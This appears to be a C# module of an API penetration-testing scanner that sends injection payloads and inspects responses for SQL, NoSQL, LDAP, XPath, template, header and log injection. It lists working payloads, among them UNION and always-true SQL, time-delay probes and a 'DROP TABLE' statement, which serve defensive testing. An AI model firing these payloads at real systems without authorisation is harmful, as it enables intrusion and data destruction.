using System.Text.RegularExpressions;
using Lighthouse.Security.OpenApi;
using Lighthouse.Security.Penetration.Fuzzing;
using Lighthouse.Security.Wire;

namespace Lighthouse.Security.Penetration.Classes;

/// <summary>SQL, NoSQL, LDAP, template, header and log injection: by what is computed, by an interpreter's error, by the time taken, and by two conditions that must make no difference.</summary>
internal sealed partial class Injection : IPenetrationClass
{
    private const string HeaderMark = "X-Lighthouse-Planted";
    private const int Repetitions = 3;
    private const int MatchMilliseconds = 2_000;

    public string Name => PenetrationClasses.Injection;

    public IEnumerable<Payload> Payloads(Canaries canaries)
    {
        yield return new(Name, InjectionTexts.PolyglotName, InjectionTexts.Polyglot(canaries)) { IsCore = true };
        yield return new(Name, "delay in a statement or command", $"1;sleep {InjectionTexts.Delay};'||pg_sleep({InjectionTexts.Delay})--") { IsCore = true };
        yield return new(Name, "header planted by a line break", $"a\r\n{HeaderMark}: 1") { IsCore = true };
        var product = $"{canaries.Left}*{canaries.Right}";
        foreach (var template in new[] { $"{{{{{product}}}}}", $"${{{product}}}", $"#{{{product}}}", $"<%= {product} %>", $"@({product})", $"*{{{product}}}", $"{{%print({product})%}}" })
            yield return new(Name, "template expression", template);
        foreach (var (name, text) in Statements())
            yield return new(Name, name, text);
        foreach (var json in new[] { """{"$gt":""}""", """{"$ne":null}""", """{"$regex":".*"}""", $$"""{"$where":"sleep({{InjectionTexts.DelayTime.TotalMilliseconds}})"}""" })
            yield return new(Name, "query operator for a value", json) { Json = json, OnlyInBody = true };
    }

    public IEnumerable<Suspicion> Inspect(Exchange exchange, Canaries canaries)
    {
        if (exchange.Shows(canaries.Product) && !exchange.Shows($"lighthouse{canaries.Product}"))
            yield return new($"an expression in {exchange.Mutant.Where} is computed", PenetrationFlaws.Template);
        if (exchange.Response.Header(HeaderMark) is not null)
            yield return new($"a line break in {exchange.Mutant.Where} plants a header", PenetrationFlaws.HeaderInjection);
        if (InterpreterError().IsMatch(exchange.Beginning))
            yield return new($"{exchange.Mutant.Where} reaches an interpreter, which complains", PenetrationFlaws.InterpreterError);
        if (exchange.Elapsed >= InjectionTexts.DelayTime && exchange.Mutant.Request != exchange.Plain && exchange.Mutant.Payload.Name.Contains("delay", StringComparison.Ordinal))
            yield return new($"a delay in {exchange.Mutant.Where} is carried out", PenetrationFlaws.Timing) { Confirm = (run, cancellation) => IsSlowerAsync(run, exchange, cancellation) };
    }

    /// <summary>A condition that is true and one that is false: whoever treats both as a name finds neither.</summary>
    public async Task ProbeAsync(PenetrationRun run, CancellationToken cancellation)
    {
        var token = await run.TokenAsync(cancellation);
        foreach (var operation in run.Operations.Where(operation => operation.Method == "GET" && !run.Options.Holding.Contains(operation.Id)))
        {
            var subject = await run.SubjectAsync(operation, token, cancellation);
            foreach (var place in subject.Places.Where(place => place.Kind is PlaceKind.Query or PlaceKind.Path))
                await CompareAsync(run, operation, subject, place, cancellation);
        }
    }

    private async Task CompareAsync(PenetrationRun run, OpenApiOperation operation, Subject subject, Place place, CancellationToken cancellation)
    {
        var truth = subject.With(place, new(Name, "", "x' OR '1'='1"))!;
        var lie = subject.With(place, new(Name, "", "x' OR '1'='2"))!;
        for (var time = 0; time < Repetitions; time++)
        {
            var (first, _) = await run.SendAsync(truth, cancellation);
            var (second, _) = await run.SendAsync(lie, cancellation);
            run.Log.Attempt(Name, first is null || second is null || first.Status == 429 || second.Status == 429 ? Answer.Unclear : Answer.Refused, 2);
            if (first is null || second is null || Normalised(first) == Normalised(second))
                return;
            if (time == Repetitions - 1)
                run.Log.Find(Name, operation, new($"a condition in {place} decides what is answered", PenetrationFlaws.Database), truth, first);
        }
    }

    // Times, counts and ids differ from call to call, and the sent text may come back.
    private static string Normalised(RawResponse response) => $"{response.Status} {Changing().Replace(response.Body, "#")}";

    private static async Task<bool> IsSlowerAsync(PenetrationRun run, Exchange exchange, CancellationToken cancellation)
    {
        for (var time = 0; time < Repetitions; time++)
        {
            var (_, quick) = await run.SendAsync(exchange.Plain, cancellation);
            var (_, slow) = await run.SendAsync(exchange.Mutant.Request, cancellation);
            if (slow < InjectionTexts.DelayTime || quick * 2 > slow)
                return false;
        }

        return true;
    }

    private static IEnumerable<(string Name, string Text)> Statements() =>
    [
        ("SQL: always true", "' OR '1'='1' --"),
        ("SQL: always true, number", "1 OR 1=1"),
        ("SQL: second statement", "'; DROP TABLE events; --"),
        ("SQL: union", "' UNION SELECT version() --"),
        ("SQL: delay of SQL Server", $"'; WAITFOR DELAY '0:0:0{InjectionTexts.Delay}' --"),
        ("SQL: delay of MySQL", $"' OR SLEEP({InjectionTexts.Delay}) -- "),
        ("SQL: lone quote", "'"),
        ("SQL: lone double quote", "\""),
        ("LDAP: filter", "*)(uid=*))(|(uid=*"),
        ("XPath: filter", "' or count(/*)=1 or 'a'='b"),
        ("log: planted line", "a\n1970-01-01 00:00:00 CRITICAL planted line"),
        ("log: terminal control", "\u001b[2J\u001b[1;31mplanted"),
        ("header planted by encoded line breaks", $"a%0d%0a{HeaderMark}: 1"),
        ("spreadsheet formula", "=HYPERLINK(\"http://127.0.0.1/\")"),
    ];

    [GeneratedRegex("""SQLSTATE|syntax error at or near|unterminated quoted string|You have an error in your SQL|ORA-\d{5}|SQLite3?(Error|Exception)|unclosed quotation mark|MongoError|BSONError|LDAPException|Bad search filter|XPathException|TemplateSyntaxError|/bin/(ba)?sh:|sh: \d+:""", RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant, MatchMilliseconds)]
    private static partial Regex InterpreterError();

    [GeneratedRegex("""[0-9][0-9.eE+-]*|[0-9a-f]{16,}|x' OR '1'='[12]|x\\u0027 OR \\u00271\\u0027=\\u0027[12]""", RegexOptions.CultureInvariant, MatchMilliseconds)]
    private static partial Regex Changing();
}
